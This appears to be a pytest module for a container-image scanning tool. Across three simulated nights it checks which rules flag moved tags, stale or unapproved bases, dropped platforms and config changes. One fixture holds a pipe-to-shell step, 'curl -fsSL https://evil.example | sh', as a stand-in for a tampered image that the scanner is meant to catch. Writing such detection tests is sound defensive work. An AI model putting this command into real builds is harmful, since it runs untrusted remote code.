"""Every rule about moves and bases through the nightly scan, on images that a registry serves.

Two nights and one nine days later. Beside each image that a rule speaks of stands one like it of
which it must be silent.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator, Mapping
from dataclasses import replace
from http.client import HTTPConnection
from pathlib import Path

import pytest

from tagwatch.api import scan_async
from tagwatch.audit.model.finding import Finding
from tagwatch.audit.verdict.result import AuditResult
from tagwatch.walk.site import Site, open_site
from tests.image_builder import (
    Built,
    attest,
    build,
    cmd,
    copy,
    entrypoint,
    env,
    expose,
    index,
    label,
    provenance,
    recompress,
    run,
    setting,
    spdx,
    squash,
    user,
)
from tests.nights import HUB, SHOP
from tests.nights_served import HOSTS, RegistryShelf
from tests.official import ARM64, app, debian, on_day, python, python_steps, redis
from tests.registry.distribution import distribution

NAME = "org.opencontainers.image.base.name"
NIGHTS = (0, 1, 9)


def node(day: int) -> Built:
    """An approved base on Debian of the day."""
    steps = (env("NODE_VERSION", "20.1.0"), run("install node", node=str(day)), cmd("node"))
    return build(*steps, base=debian(day), created=on_day(day))


def on_arm(version: str) -> Built:
    return build(*python_steps(version, 0), base=debian(0, platform=ARM64), created=on_day(0))


def both(version: str, arm: str) -> Built:
    """Python for two platforms."""
    return index(python(0, version), on_arm(arm))


def users(amd: str, arm: str) -> Built:
    return index(build(user(amd), base=python(0)), build(user(arm), base=debian(0, platform=ARM64)))


def attested(image: Built) -> Built:
    statements = (spdx(image, {"pkg:deb/debian/bash": "5"}), provenance(image, ()))
    return index(image, attest(image, *statements))


OLD_NODE = node(0)
REDIS = redis(0, "6.2.12")
STRANGER = build(copy("rootfs.tar", "/", "stranger"), cmd("/bin/sh"))
OTHER_STEP = build(run("curl -fsSL https://evil.example | sh", x="y"), base=redis(1))

# reference -> what it serves in the first night, and what from the second on
MOVES: Mapping[str, tuple[Built, Built]] = {
    f"{HUB}/redis:6.2.14": (redis(0), OTHER_STEP),
    f"{HUB}/redis:6.2.13": (redis(0, "6.2.13"), redis(1, "6.2.13")),
    f"{HUB}/python:3.10-slim": (
        python(0, "3.10.1"), python(1, "3.10.1", base=debian(1, release="trixie"))),
    f"{HUB}/python:3.11-slim": (python(0, "3.11.5"), python(1, "3.11.4")),
    f"{SHOP}/user:latest": (app(OLD_NODE), build(user("other"), base=app(OLD_NODE, 1))),
    f"{SHOP}/volume:latest": (
        app(OLD_NODE), build(setting("VOLUME [/d]", Volumes={"/d": {}}), base=app(OLD_NODE, 1))),
    f"{SHOP}/entrypoint:latest": (
        app(OLD_NODE), build(entrypoint("other"), base=app(OLD_NODE, 1))),
    f"{SHOP}/ports:latest": (
        build(expose("80/tcp"), base=app(OLD_NODE)),
        build(expose("8080/tcp"), base=app(OLD_NODE)),
    ),
    f"{SHOP}/dropped:latest": (both("3.12.4", "3.12.4"), index(python(0, "3.12.4"))),
    f"{SHOP}/recompressed:latest": (app(OLD_NODE), recompress(app(OLD_NODE), "zstd")),
    f"{SHOP}/attested:latest": (index(app(OLD_NODE)), attested(app(OLD_NODE))),
}  # fmt: skip
STILL: Mapping[str, Built] = {
    f"{HUB}/python:3.8-slim": both("3.8.2", "3.8.1"),
    f"{HUB}/python:3.9-slim": both("3.9.2", "3.9.2"),
    f"{SHOP}/together:latest": both("3.12.4", "3.12.4"),
    f"{SHOP}/users:latest": users("app", "root"),
    f"{SHOP}/one-user:latest": users("app", "app"),
    f"{SHOP}/stands:latest": app(OLD_NODE),
    f"{SHOP}/squashed:latest": squash(build(label(NAME, "node:20-slim"), base=app(OLD_NODE))),
    f"{SHOP}/lies:latest": build(label(NAME, "node:20-slim"), copy("a", "/a"), base=REDIS),
    f"{SHOP}/unapproved:latest": app(REDIS),
    f"{SHOP}/stranger:latest": STRANGER,
    f"{HUB}/redis:6.2": REDIS,
    f"{HUB}/redis:6.2.12": REDIS,
    f"{HUB}/python:3.12.3-slim": python(0),
    f"{HUB}/python:3.12.4-slim": python(9, "3.12.4"),
    f"{HUB}/python:3.6-slim": python(0, "3.6.15"),
    f"{SHOP}/on-old-python:latest": app(python(0, "3.6.15")),
    f"{SHOP}/also-on-old-python:latest": app(python(0, "3.6.15"), content="other"),
    f"{SHOP}/on-attested:latest": app(python(2, "3.13.0")),
}


def push(shelf: RegistryShelf, night: int) -> None:
    for reference, (first, later) in MOVES.items():
        shelf.push(reference, later if night else first)
    for reference, image in STILL.items():
        shelf.push(reference, image)
    shelf.push(f"{HUB}/node:20-slim", node(night if night < 9 else 1))
    # an index that moves for its attestations alone is no other base
    base = python(2, "3.13.0")
    shelf.push(f"{HUB}/python:3.13-slim", attested(base) if night else index(base))


DOCKERFILES = {
    "behind/Dockerfile": "FROM python:3.12.3-slim\n",
    "stranger/Dockerfile": f"FROM {SHOP}/stranger\n",
    "approved/Dockerfile": "FROM node:20-slim\n",
    "known/Dockerfile": "FROM redis:6.2\n",
    "old/Dockerfile": "FROM python:3.6-slim\n",
    "compose.yaml": "services:\n"
    "  ports:\n"
    f"    image: {SHOP}/ports\n"
    "    ports: ['127.0.0.1:8000:80']\n"
    "  still:\n"
    f"    image: {SHOP}/together\n",
}


@pytest.fixture(scope="module")
def nights(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[int, AuditResult]]:
    folder = tmp_path_factory.mktemp("rules")
    with distribution(folder / "registry") as registry:
        shelf = RegistryShelf(HTTPConnection(registry.host, timeout=30))
        site = _site(folder / "site", registry.url)
        results = {}
        for night in NIGHTS:
            push(shelf, night)
            results[night] = asyncio.run(scan_async(replace(site, at=on_day(night)))).result
            assert results[night].complete, results[night].failures
        shelf.connection.close()
        yield results


def _site(folder: Path, endpoint: str) -> Site:
    asked = {"endpoint": endpoint, "kind": "distribution", "credential": "anonymous"}
    watched: dict[str, list[str]] = {}
    for reference in (*MOVES, *STILL, f"{HUB}/node:20-slim"):
        name, _, tag = reference.rpartition(":")
        watched.setdefault(name, []).append(tag)
    settings = {
        "database": "tagwatch.db",
        "sources": ["**/Dockerfile", "compose.yaml"],
        "registries": dict.fromkeys(HOSTS, asked),
        "watch": [{"image": name, "tags": tags} for name, tags in watched.items()],
        "policy": {
            "defaults": {"platforms": ["linux/amd64", "linux/arm64"]},
            "bases": [
                {"ref": f"{HUB}/node", "tags": ["20-slim"]},
                {"ref": f"{HUB}/python", "tags": ["3.6-slim", "3.12.3-slim", "3.13-slim"]},
            ],
            "rules": {"attestation-missing": {"severity": "note"}},
        },
    }
    folder.mkdir()
    (folder / "tagwatch.yaml").write_text(json.dumps(settings))
    for path, text in DOCKERFILES.items():
        (folder / path).parent.mkdir(exist_ok=True)
        (folder / path).write_text(text)
    return open_site(folder / "tagwatch.yaml", environment={"HOME": str(folder)}, at=on_day(0))


def said(result: AuditResult, rule: str) -> dict[str, str]:
    """What the rule says of each image, by name and tag, or by the file that names it."""
    return {_subject(one): one.message for one in result.findings if one.rule == rule}


def _subject(finding: Finding) -> str:
    assert finding.reference is not None
    name = finding.reference.canonical.rpartition("/")[2].removesuffix(":latest")
    path = finding.location.path
    return name if path == "tagwatch.yaml" else f"{path} {name}"


# rule -> what it names in the second night, each with words of what it says
SECOND_NIGHT: Mapping[str, Mapping[str, str]] = {
    "tag-replaced": {"redis:6.2.14": "evil.example"},
    "tag-rebuilt": {"redis:6.2.13": "a rebuild of the same version"},
    "tag-downgraded": {"python:3.11-slim": "back from 3.11.5 to 3.11.4"},
    "tag-os-shifted": {"python:3.10-slim": "from debian bookworm to debian trixie"},
    "tag-config-changed": {
        "user": "USER 'app' is now 'other'",
        "volume": "VOLUME /d is new",
        "entrypoint": "ENTRYPOINT 'python -m app' is now 'other'",
    },
    "port-expose-changed": {"compose.yaml ports": "8000:80 will reach nothing"},
    "platform-lag": {"python:3.8-slim": "3.8.1"},
    "platform-config-differs": {"users": "USER app on linux/amd64, root on linux/arm64"},
    "platform-dropped": {},
    "cooldown": {
        "compose.yaml ports": "first seen on 2026-05-02",
        "approved/Dockerfile node:20-slim": "first seen on 2026-05-02",
    },
    "base-behind": {
        "behind/Dockerfile python:3.12.3-slim": "3.12.4-slim is the newest",
        "known/Dockerfile redis:6.2": "redis:6.2 is 6.2.12: 6.2.14 is the newest",
    },
    "base-claim-conflict": {"lies": "node:20-slim (label), but its layers are those of redis:6.2"},
    "base-not-approved": {
        "known/Dockerfile redis:6.2": "the policy does not name it",
        "stranger/Dockerfile stranger": "the policy does not name it",
        "lies": "by its layers it stands on docker.io/library/redis:6.2 = 6.2.12",
        "unapproved": "by its layers it stands on docker.io/library/redis:6.2 = 6.2.12",
    },
    "base-unknown": {
        "squashed": "its layers do not show it (squashed?): not verified",
        "dropped": "Starts with the first 2 layers of python:3.12.3-slim",
        "compose.yaml together": "Starts with the first 2 layers of python:3.12.3-slim",
        "users": "No known base matches its 1 layer",
        "one-user": "No known base matches its 1 layer",
    },
    "base-stale": {},
}


@pytest.mark.parametrize("rule", SECOND_NIGHT)
def test_a_rule_speaks_of_these_and_of_no_others(
    nights: Mapping[int, AuditResult], rule: str
) -> None:
    found, expected = said(nights[1], rule), SECOND_NIGHT[rule]
    assert set(found) == set(expected)
    for subject, words in expected.items():
        assert words in found[subject]


@pytest.mark.parametrize(
    "rule", ["tag-replaced", "tag-rebuilt", "tag-config-changed", "cooldown", "base-stale"]
)
def test_nothing_moved_in_the_first_night(nights: Mapping[int, AuditResult], rule: str) -> None:
    assert said(nights[0], rule) == {}


def test_a_stale_base_is_told_after_the_days_of_grace(nights: Mapping[int, AuditResult]) -> None:
    found = said(nights[9], "base-stale")
    on_node = {"compose.yaml ports", "user", "volume", "entrypoint", "recompressed", "attested"}
    assert set(found) == {*on_node, "stands"}, "not on-attested: its base only got an attestation"
    assert found["stands"].endswith(
        "(linux/amd64): Built on node:20-slim = 20.1.0 (served 2026-05-01..2026-05-01, layers "
        "match 2/2). That tag now serves another build of 20.1.0: 2 base layers replaced, "
        "0 shared, -2 B, USER and EXPOSE unchanged"
    )
    assert "recompressed" in found["recompressed"]


def test_a_dropped_platform_is_told_after_a_day(nights: Mapping[int, AuditResult]) -> None:
    assert "no longer offers linux/arm64" in said(nights[9], "platform-dropped")["dropped"]
    assert "cooldown" not in {finding.rule for finding in nights[9].findings}


def test_attestations_are_missing_until_they_come(nights: Mapping[int, AuditResult]) -> None:
    before, after = (said(nights[night], "attestation-missing") for night in (0, 1))
    assert set(before) - set(after) == {"attested"}
    assert "stands" in after


def test_what_a_base_lacks_is_said_of_the_base_once(nights: Mapping[int, AuditResult]) -> None:
    lacking = {
        _subject(one): one.evidence.get("charged")
        for one in nights[0].findings
        if one.rule == "platform-missing"
    }
    assert lacking["approved/Dockerfile node:20-slim"] == "7"
    assert lacking["old/Dockerfile python:3.6-slim"] == "2"
    assert "stands" not in lacking
    assert lacking["lies"] is None, "what is not proven by layers is not charged"


def test_every_move_has_its_verdict(nights: Mapping[int, AuditResult]) -> None:
    verdicts = {
        f"{one.repository.path.rpartition('/')[2]}:{one.change.tag}": one.change.verdict.value
        for one in nights[1].changes
    }
    assert verdicts == {
        "redis:6.2.14": "replaced",
        "redis:6.2.13": "rebuilt",
        "python:3.10-slim": "rebuilt",
        "python:3.11-slim": "downgraded",
        "python:3.13-slim": "attestation-only",
        "node:20-slim": "rebuilt",
        "user:latest": "unknown",
        "volume:latest": "unknown",
        "entrypoint:latest": "unknown",
        "ports:latest": "unknown",
        "dropped:latest": "platforms-changed",
        "recompressed:latest": "recompressed",
        "attested:latest": "attestation-only",
    }
